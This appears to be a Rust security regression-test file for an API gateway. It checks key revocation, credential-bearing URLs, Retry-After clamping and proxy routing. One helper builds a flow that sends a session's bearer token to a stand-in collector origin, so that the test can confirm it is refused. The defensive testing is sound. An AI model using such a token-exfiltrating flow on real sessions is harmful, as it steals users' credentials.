//! What an attacker tries: a server left open by a revoked key, a shared flow that would carry
//! the session elsewhere, credentials inside an account URL, a site's absurd `Retry-After`.
//! Each test fails without the fix it names.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test fails by panicking

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::{Data, ask, demo_site, error_message, eventually, http, post_chat, repo};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);

/// Off loopback, a server whose last key is revoked keeps refusing everything (it used to
/// open completely, `/admin` included, once no live key existed).
#[tokio::test]
async fn revoking_the_last_key_keeps_an_off_loopback_server_closed() {
    let data = Data::new();
    let key = data
        .ok(&["keys", "create", "--admin"], None)
        .trim()
        .to_owned();
    let server = data.serve_with(&["--bind", "0.0.0.0:0"], &[]);
    let get = |path: &str, key: Option<&str>| {
        let mut request = http().get(format!("{}{path}", server.url));
        if let Some(key) = key {
            request = request.bearer_auth(key);
        }
        request.send()
    };
    assert_eq!(
        get("/admin/accounts", Some(&key)).await.unwrap().status(),
        200
    );
    assert_eq!(get("/v1/models", None).await.unwrap().status(), 401);
    let keys: Value = serde_json::from_str(&data.ok(&["keys", "list", "--json"], None)).unwrap();
    let id = keys[0]["id"].as_str().unwrap().to_owned();
    data.ok(&["keys", "revoke", &id], None);
    // Key lookups are cached for a few seconds; wait for the revocation to be seen.
    let body: Value = eventually(WAIT, "the revoked key to be refused", || async {
        let response = get("/admin/accounts", Some(&key)).await.ok()?;
        (response.status() == 401).then_some(())?;
        response.json().await.ok()
    })
    .await;
    error_message(&body);
    for (path, key) in [
        ("/admin/accounts", None),
        ("/v1/models", None),
        ("/v1/models", Some(key.as_str())),
        ("/metrics", None),
    ] {
        let response = get(path, key).await.unwrap();
        assert_eq!(response.status(), 401, "{path}");
        let body: Value = response.json().await.unwrap();
        let message = error_message(&body);
        assert!(message.contains("no live API key"), "{path}: {message}");
        assert!(message.contains("keys create"), "{path}: {message}");
    }
    let chat = post_chat(&server.url, None, ask("anything", "hi")).await;
    assert_eq!(chat.0, 401, "{}", chat.1);
    // Liveness stays open for load balancers; it tells nothing secret.
    assert_eq!(get("/health", None).await.unwrap().status(), 200);
}

/// `serve` refused off loopback (no key) leaves the disk as it found it.
#[tokio::test]
async fn a_refused_serve_creates_nothing_on_disk() {
    let data = Data::new();
    let out = data.cli(
        &[
            "--data",
            data.path().join("fresh").to_str().unwrap(),
            "serve",
            "--bind",
            "0.0.0.0:0",
        ],
        None,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("keys create"));
    assert!(!data.path().join("fresh").exists());
    let entries: Vec<_> = std::fs::read_dir(data.path()).unwrap().collect();
    assert!(entries.is_empty(), "{entries:?}");
}

/// A TCP listener that counts connections: the "other origin" a malicious flow names.
async fn collector() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let seen = Arc::new(AtomicUsize::new(0));
    let count = seen.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    (origin, seen)
}

/// The demo flow rewritten to send the session's bearer token to `origin`.
fn stealing_flow(origin: &str) -> String {
    let text = std::fs::read_to_string(repo().join("flows/demo-openai.json")).unwrap();
    let mut flow: Value = serde_json::from_str(&text).unwrap();
    flow["id"] = Value::String(String::new());
    flow["request"]["url"] = format!("{origin}/collect?t={{{{session.local.demo_token}}}}").into();
    flow.to_string()
}

/// A shared flow cannot carry the sealed session to another origin: import refuses it, and a
/// flow that names one anyway (allowed once, then no longer) is refused at replay without a
/// byte reaching that origin.
#[tokio::test]
async fn flows_cannot_carry_the_session_to_another_origin() {
    let site = demo_site("openai", &[]);
    let data = Data::new();
    let (model, secrets) = data
        .add_demo_account_with_secrets(&site.url, "openai", "pin@example.com")
        .await;
    let (origin, seen) = collector().await;
    let file = data.path().join("stealing.json");
    std::fs::write(&file, stealing_flow(&origin)).unwrap();

    let out = data.cli(&["flows", "import", file.to_str().unwrap()], None);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&origin) && stderr.contains("allowed_origins"),
        "{stderr}"
    );
    let flows = data.ok(&["flows", "list", "--json"], None);
    assert!(
        !flows.contains(&origin),
        "the refused flow was stored: {flows}"
    );

    // Listed by the operator, it imports; once the listing is gone, replay refuses it.
    let config = data.path().join("allow.toml");
    std::fs::write(
        &config,
        format!("[services.{model}]\nallowed_origins = [\"{origin}\"]\n"),
    )
    .unwrap();
    data.ok(
        &[
            "--config",
            config.to_str().unwrap(),
            "flows",
            "import",
            file.to_str().unwrap(),
        ],
        None,
    );
    let server = data.serve(&[]);
    let (status, body) = post_chat(&server.url, None, ask(&model, "hello")).await;
    assert_eq!(status, 502, "{body}");
    let message = error_message(&body);
    assert!(message.contains(&origin), "{message}");
    for secret in &secrets {
        assert!(!message.contains(secret.as_str()), "{message}");
    }
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "a call reached the other origin"
    );
}

/// A password in the account URL is refused, never echoed, never stored.
#[tokio::test]
async fn credentials_in_an_account_url_are_refused() {
    let data = Data::new();
    let out = data.cli(
        &[
            "account",
            "add",
            "--url",
            "http://someone:hunter2pw@127.0.0.1:9/",
        ],
        None,
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--password-stdin"), "{stderr}");
    assert!(!stderr.contains("hunter2pw"), "{stderr}");
    let listed = data.ok(&["account", "list", "--json"], None);
    assert!(
        !listed.contains("hunter2pw") && !listed.contains("someone"),
        "{listed}"
    );

    let server = data.serve(&[]);
    let response = http()
        .post(format!("{}/admin/accounts", server.url))
        .json(&serde_json::json!({"url": "https://a:hunter2pw@chat.example.com/"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let body: Value = response.json().await.unwrap();
    let message = error_message(&body);
    assert!(!message.contains("hunter2pw"), "{message}");
    let accounts = http()
        .get(format!("{}/admin/accounts", server.url))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!accounts.contains("hunter2pw"), "{accounts}");
}

/// A site's `Retry-After: 18446744073709551615` used to overflow the pool's clock and panic
/// (a 500); now it is clamped, and the client gets a 429 with a sane `Retry-After`.
#[tokio::test]
async fn an_absurd_retry_after_from_the_site_is_clamped() {
    let site = demo_site("openai", &[]);
    let data = Data::new();
    let model = data
        .add_demo_account(&site.url, "openai", "ra@example.com")
        .await;
    let server = data.serve(&[]);
    let hold = http()
        .post(format!(
            "{}/__demo/rate-limit?email=ra@example.com&seconds=600&retry_after=18446744073709551615",
            site.url
        ))
        .send()
        .await
        .unwrap();
    assert!(hold.status().is_success());
    for _ in 0..2 {
        let response = http()
            .post(format!("{}/v1/chat/completions", server.url))
            .header("content-type", "application/json")
            .body(ask(&model, "hi"))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 429);
        let retry_after: u64 = response.headers()["retry-after"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((1..=86_400).contains(&retry_after), "{retry_after}");
        let body: Value = response.json().await.unwrap();
        error_message(&body);
    }
    let health = http()
        .get(format!("{}/health", server.url))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
}

/// Every direct call an account makes goes through its proxy: tier 1's HTTP calls (with the
/// proxy's credentials, which the proxy demands) and the WebSocket replay (a `CONNECT`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn direct_replay_and_websockets_go_through_the_account_proxy() {
    use common::proxy::LoggingProxy;
    let site = demo_site("openai", &[]);
    let ws_site = demo_site("ws", &[]);
    let data = Data::new();
    let model = data
        .add_demo_account(&site.url, "openai", "proxied@example.com")
        .await;
    let ws_model = data
        .add_demo_account(&ws_site.url, "ws", "proxied-ws@example.com")
        .await;
    let with_login = LoggingProxy::start(Some(("proxyuser", "proxypass"))).await;
    let open = LoggingProxy::start(None).await;
    data.ok(
        &["account", "update", &model, "--proxy", &with_login.url],
        None,
    );
    data.ok(
        &["account", "update", &ws_model, "--proxy", &open.url],
        None,
    );
    let server = data.serve(&[]);

    let (status, body) = post_chat(&server.url, None, ask(&model, "through the proxy")).await;
    assert_eq!(status, 200, "{body}");
    let site_host = site.url.trim_start_matches("http://").trim_end_matches('/');
    assert!(
        with_login.count(&format!(
            "POST http://{site_host}/api/openai/v1/chat/completions"
        )) == 1,
        "{:?}",
        with_login.log()
    );
    assert!(with_login.count(&format!("http://{site_host}/api/conversations")) >= 1);

    let (status, body) = post_chat(&server.url, None, ask(&ws_model, "over the socket")).await;
    assert_eq!(status, 200, "{body}");
    let ws_host = ws_site
        .url
        .trim_start_matches("http://")
        .trim_end_matches('/');
    assert!(
        open.count(&format!("CONNECT {ws_host}")) >= 1,
        "the WebSocket did not go through the proxy: {:?}",
        open.log()
    );
}

/// The browser goes through the account's proxy too, answering its login challenge: the
/// login, the probe that learns the flow, and tiers 2 and 3. (Chromium was handed the proxy
/// as `http://host:port/` and refused it; and it went straight to loopback sites.)
// Several threads: the CLI runs blocking while the proxy, on this runtime, must answer it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_browser_goes_through_the_account_proxy_with_its_credentials() {
    use common::proxy::LoggingProxy;
    let site = demo_site("openai", &[]);
    let proxy = LoggingProxy::start(Some(("browseruser", "s3cret-proxy"))).await;
    let data = Data::new();
    data.ok(
        &[
            "account",
            "add",
            "--url",
            &site.url,
            "--name",
            "proxied",
            "--email",
            "browser-proxy@example.com",
            "--password-stdin",
            "--proxy",
            &proxy.url,
        ],
        Some(&format!("{}\n", common::PASSWORD)),
    );
    let learned = data.ok(&["learn", "proxied"], None);
    assert!(
        learned.contains("/api/openai/v1/chat/completions"),
        "{learned}"
    );
    let host = site.url.trim_start_matches("http://").trim_end_matches('/');
    let chat_call = format!("POST http://{host}/api/openai/v1/chat/completions");
    assert!(
        proxy.count(&format!("POST http://{host}/login")) >= 1,
        "{:?}",
        proxy.log()
    );
    // The probe's chat call, and verification's direct replay.
    let after_learn = proxy.count(&chat_call);
    assert!(after_learn >= 2, "{:?}", proxy.log());
    assert!(
        proxy.log().iter().any(|l| l.starts_with("407")),
        "the proxy's login challenge was never met: {:?}",
        proxy.log()
    );
    let server = data.serve(&[]);
    for tier in ["2", "3"] {
        let response = http()
            .post(format!("{}/v1/chat/completions", server.url))
            .header("content-type", "application/json")
            .header("x-computetower-tier", tier)
            .body(ask("proxied", &format!("tier {tier} through the proxy")))
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            200,
            "tier {tier}: {:?}",
            response.text().await
        );
        assert_eq!(response.headers()["x-computetower-tier"], tier);
    }
    assert!(
        proxy.count(&chat_call) >= after_learn + 2,
        "tiers 2 and 3 did not go through the proxy: {:?}",
        proxy.log()
    );
}
